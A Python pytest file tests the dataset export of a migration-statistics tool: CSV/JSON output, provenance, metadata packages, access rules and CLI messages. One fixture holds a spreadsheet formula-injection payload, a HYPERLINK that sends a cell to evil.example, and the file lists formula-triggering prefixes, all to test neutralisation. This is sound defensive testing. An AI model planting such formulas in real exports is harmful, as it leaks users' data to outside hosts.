"""Raw-data export of one dataset version (mmicd.dataset_export, ``python -m mmicd observations``):
exact rows and values, provenance, Excel-safe CSV, JSON with its dataset object, microdata records,
pieces equal to the whole, clear refusals."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pandas as pd
import pytest

from mmicd.auth import ANONYMOUS, Role, User
from mmicd.cli import main
from mmicd.dataset_export import (
    PROVENANCE_COLUMNS,
    datapackage,
    export_bytes,
    export_columns,
    file_name,
    may_export,
    number_text,
)
from mmicd.model import DIMENSIONS, MICRODATA_COLUMNS, OBS_COLUMNS, DatasetMeta, Kind, Status
from mmicd.safe_export import csv_column

EVIL_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def known_rows() -> pd.DataFrame:
    """Three values of Nepal's 2021 census (one missing, flagged M) and one in thousands."""
    return pd.DataFrame({
        "measure": "POP", "ref_area": "NPL", "time_period": "2021",
        "sex": ["F", "M", "_T", "_T"], "age": ["_T", "_T", "_T", "Y0T4"],
        "value": [15018538.0, None, 29192000.0, 2465.5], "unit_mult": [0, 0, 0, 3],
        "obs_status": ["A", "M", "A", "E"],
    })


@pytest.fixture
def known(store):
    meta = DatasetMeta(kind=Kind.CENSUS, source=EVIL_SOURCE, edition="-2021 @provisional", scope="NPL",
                       title="Recensement général 2021 — Népal")
    return store.add_dataset(meta, known_rows(), actor="ana")


def key(**given: str) -> list[str]:
    """The dimension codes of one of the known rows, in the model's order (totals where not given)."""
    given = {"measure": "POP", "ref_area": "NPL", "time_period": "2021", **given}
    return [given.get(d, "_T") for d in DIMENSIONS]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def test_columns_come_from_the_model():
    version = type("V", (), {"form": "observations"})()
    assert export_columns(version) == [*OBS_COLUMNS, *PROVENANCE_COLUMNS]
    assert PROVENANCE_COLUMNS == ["source", "edition", "dataset_id", "dataset_version", "status"]


def test_csv_holds_exactly_the_stored_rows_with_provenance_and_neutralised_text(store, known):
    data = export_bytes(store, known, "csv")
    header, *rows = csv_rows(data)
    assert header == [*OBS_COLUMNS, *PROVENANCE_COLUMNS]
    assert data[3:].split(b"\n")[0].endswith(b"\r"), "CRLF line ends"
    source = "'" + EVIL_SOURCE  # shown as text by a spreadsheet, never run as a formula
    prov = [source, "'-2021 @provisional", str(known.id), "1", "draft"]
    # sorted by the dimensions (byte order of the codes); the dimensions not given are totals
    assert rows == [
        [*key(sex="F"), "15018538", "PS", "0", "A", *prov],
        [*key(sex="M"), "", "PS", "0", "M", *prov],
        [*key(sex="_T", age="Y0T4"), "2465.5", "PS", "3", "E", *prov],
        [*key(sex="_T"), "29192000", "PS", "0", "A", *prov],
    ]
    # numbers stay numbers: a CSV reader takes them as numbers, the neutralised text as text
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert frame["value"].dtype.kind == "f" and frame["dataset_id"].dtype.kind == "i"
    assert frame["value"].iloc[0] == 15018538 and pd.isna(frame["value"].iloc[1])
    assert frame["source"].iloc[0] == source


def test_json_holds_the_records_and_the_dataset_object(store, known):
    doc = json.loads(export_bytes(store, known, "json"))
    meta = doc["dataset"]
    assert meta["dataset_id"] == known.id and meta["dataset_version"] == 1 and meta["status"] == "draft"
    assert meta["source"] == EVIL_SOURCE  # JSON is not a spreadsheet: the text as stored
    assert meta["edition"] == "-2021 @provisional" and meta["title"] == "Recensement général 2021 — Népal"
    assert meta["columns"] == OBS_COLUMNS and meta["rows"] == 4 and "storage" not in meta
    assert len(doc["records"]) == 4
    assert doc["records"][1] == {**dict(zip(DIMENSIONS, key(sex="M"), strict=True)), "value": None,
                                 "unit_measure": "PS", "unit_mult": 0, "obs_status": "M"}
    assert list(doc["records"][1]) == OBS_COLUMNS
    assert [r["value"] for r in doc["records"]] == [15018538.0, None, 2465.5, 29192000.0]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_pieces_give_the_same_file_as_one_read(store, known, fmt):
    when = datetime(2026, 12, 7, 18, 0, tzinfo=UTC)
    assert export_bytes(store, known, fmt, chunk_rows=1, generated=when) == export_bytes(store, known, fmt,
                                                                                         generated=when)


def test_metadata_go_with_the_rows_as_a_data_package(store, known):
    """The CSV's datapackage.json: every column typed (ids and counts integers) and described in three
    languages, source and edition, licence, time of writing; the JSON's dataset object has the same schema."""
    when = datetime(2026, 12, 7, 18, 0, tzinfo=UTC)
    package = datapackage(known, when)
    [resource] = package["resources"]
    fields = {f["name"]: f for f in resource["schema"]["fields"]}
    header = csv_rows(export_bytes(store, known, "csv"))[0]
    assert resource["path"] == file_name(known, "csv") and list(fields) == header
    assert {c: f["type"] for c, f in fields.items() if f["type"] != "string"} == {
        "value": "number", "unit_mult": "integer", "dataset_id": "integer", "dataset_version": "integer"}
    assert fields["unit_mult"]["mmicd:titles"] == {"en": "Unit multiplier", "fr": "Multiplicateur d'unité",
                                                  "es": "Multiplicador de unidad"}
    assert "PS persons" in fields["unit_measure"]["description"]
    assert package["sources"] == [{"title": EVIL_SOURCE, "version": "-2021 @provisional"}]
    assert package["created"] == "2026-12-07T18:00:00Z" and package["licenses"] == []
    assert package["mmicd:dataset"]["dataset_id"] == known.id
    doc = json.loads(export_bytes(store, known, "json", generated=when))
    assert doc["dataset"]["generated_at"] == "2026-12-07T18:00:00Z"
    assert [f["name"] for f in doc["dataset"]["schema"]["fields"]] == OBS_COLUMNS


def test_progress_is_reported_per_piece(store, known):
    seen = []
    export_bytes(store, known, "csv", progress=lambda done, total: seen.append((done, total)), chunk_rows=3)
    assert seen == [(0, 4), (3, 4), (4, 4)]


@pytest.mark.parametrize(("text", "shown"), [
    ("=1+2", "'=1+2"), ("+33 1 23", "'+33 1 23"), ("-2021", "'-2021"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("\uff1dcmd", "'\uff1dcmd"),
    ("UN DESA", "UN DESA"), ("a=b", "a=b"), ("_T", "_T"), ("", ""),
])
def test_neutralise_prefixes_only_what_a_spreadsheet_would_run(text, shown):
    assert csv_column(pd.Series([text])).tolist() == [shown]


def test_numbers_are_written_as_numbers():
    values = pd.Series([1.0, -5.0, 0.1, 1234567890123.0, float("nan"), 2.5e-7, 1e20])
    assert number_text(values).tolist() == ["1", "-5", "0.1", "1234567890123", "", "2.5e-07", "1e+20"]


def test_baseline_version_exports_every_row_with_the_published_figures(seeded_store, tmp_path, monkeypatch):
    """UN DESA IMS 2020 as stored: every row once, Germany 2020 as published (15,762,457 migrants)."""
    monkeypatch.setenv("MMICD_DATABASE_URL", seeded_store.url)
    [ims] = [v for v in seeded_store.datasets() if v.source == "UN DESA, International Migrant Stock"
             and v.kind.value == "migrant_stock"]   # (its Table 6 refugees are a dataset of their own)
    out = tmp_path / "ims.csv"
    assert main(["observations", "--dataset", str(ims.id), "--out", str(out)]) == 0
    frame = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert len(frame) == ims.rows == 265_769
    assert list(frame.columns) == [*OBS_COLUMNS, *PROVENANCE_COLUMNS]
    assert not frame.duplicated(OBS_COLUMNS[:OBS_COLUMNS.index("value")]).any()
    deu = frame.set_index(["ref_area", "time_period", "sex", "age", "migrant_status", "counterpart_area"])
    assert deu.loc[("DEU", "2020", "_T", "_T", "MS_MIGRANT", "_T"), "value"] == "15762457"
    assert deu.loc[("DEU", "2020", "F", "_T", "MS_MIGRANT", "_T"), "value"] == "7870822"
    total = deu.loc[("DEU", "2020", "_T", "_T", "_T", "_T")]
    assert (total["value"], total["unit_mult"]) == ("83783945", "3")  # thousands in the source, persons here
    assert set(frame["source"]) == {"UN DESA, International Migrant Stock"} and set(frame["edition"]) == {"2020"}
    assert set(frame["dataset_id"]) == {str(ims.id)} and set(frame["status"]) == {"published"}


def test_json_from_the_command_line_to_standard_output(seeded_store, monkeypatch, capsysbinary):
    monkeypatch.setenv("MMICD_DATABASE_URL", seeded_store.url)
    [brm] = [v for v in seeded_store.datasets() if v.kind == Kind.REMITTANCE_CORRIDORS]
    assert main(["observations", "--dataset", str(brm.id), "--format", "json"]) == 0
    doc = json.loads(capsysbinary.readouterr().out)
    assert doc["dataset"]["dataset_id"] == brm.id and len(doc["records"]) == brm.rows == 10_619
    assert {r["obs_status"] for r in doc["records"]} == {"E"}  # a modelled matrix


def test_microdata_versions_give_their_person_records(store, tmp_path, monkeypatch):
    from mmicd.demo import DEMO_DIR
    from mmicd.ingest import Upload, commit, prepare

    path = DEMO_DIR / "npl_lfs_2023_synthetic.xlsx"
    prep = prepare([Upload(path.name, path.read_bytes())], kind="lfs", country="NPL", source="NSO LFS")
    [lfs] = commit(prep, store, actor="ana", publish=True)
    data = export_bytes(store, lfs, "csv")
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype={"stratum": str, "psu": str})
    assert list(frame.columns) == [*MICRODATA_COLUMNS, *PROVENANCE_COLUMNS]
    assert len(frame) == lfs.rows == 30_337
    assert round(frame["weight"].sum()) == 21_165_879  # the demo's check figure
    assert (frame["source"] == "NSO LFS").all() and (frame["status"] == "published").all()
    stored = store.microdata(lfs.id)
    assert frame["age"].tolist() == stored["age"].astype("float").tolist()
    doc = json.loads(export_bytes(store, lfs, "json"))
    assert doc["dataset"]["form"] == "microdata" and doc["dataset"]["columns"] == MICRODATA_COLUMNS
    assert len(doc["records"]) == 30_337 and set(doc["records"][0]) == set(MICRODATA_COLUMNS)


def test_who_may_download_on_the_page(store, known):
    published = store.add_dataset(DatasetMeta(kind=Kind.CENSUS, source="NSO", scope="NPL"), known_rows(),
                                  actor="ana", status=Status.PUBLISHED)
    micro = store.add_microdata(DatasetMeta(kind=Kind.LFS, source="NSO LFS", scope="NPL"),
                                pd.DataFrame({"ref_area": "NPL", "time_period": "2023", "sex": ["F", "M"],
                                              "age": [30, 40], "weight": [100.0, 120.0]}),
                                actor="ana", status=Status.PUBLISHED)
    viewer, analyst = User("v", Role.VIEWER, id=1), User("a", Role.ANALYST, countries="NPL", id=2)
    other, reviewer = User("o", Role.ANALYST, countries="SEN", id=3), User("r", Role.REVIEWER, id=4)
    assert may_export(ANONYMOUS, published) and may_export(viewer, published)
    assert not may_export(viewer, known) and not may_export(other, known) and may_export(analyst, known)
    assert not may_export(ANONYMOUS, micro) and not may_export(viewer, micro) and not may_export(other, micro)
    assert may_export(analyst, micro) and may_export(reviewer, micro)
    assert file_name(micro, "csv") == f"mmicd-dataset-{micro.id}-v1-published.csv"


@pytest.mark.parametrize(("lang", "message"), [
    ("en", "No dataset version 999 in the store."),
    ("fr", "Aucune version de jeu de données 999 dans la base."),
    ("es", "No hay ninguna versión de conjunto de datos 999 en la base."),
])
def test_unknown_version_is_a_clear_message_and_exit_2(store, tmp_path, monkeypatch, capsys, lang, message):
    monkeypatch.setenv("MMICD_DATABASE_URL", store.url)
    out = tmp_path / "x.csv"
    assert main(["--lang", lang, "observations", "--dataset", "999", "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(message) and "Traceback" not in err
    assert not out.exists()
    assert main(["observations", "--dataset", "abc"]) == 2
    assert "'abc' is not a dataset version id" in capsys.readouterr().err


def test_written_file_is_announced(store, known, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("MMICD_DATABASE_URL", store.url)
    out = tmp_path / "known.json"
    assert main(["--lang", "fr", "observations", "--dataset", f"#{known.id}", "--out", str(out)]) == 0
    assert json.loads(out.read_bytes())["dataset"]["dataset_id"] == known.id  # format from the suffix
    assert capsys.readouterr().err.strip() == f"4 lignes de la version {known.id} (v1, Brouillon) écrites dans {out}"
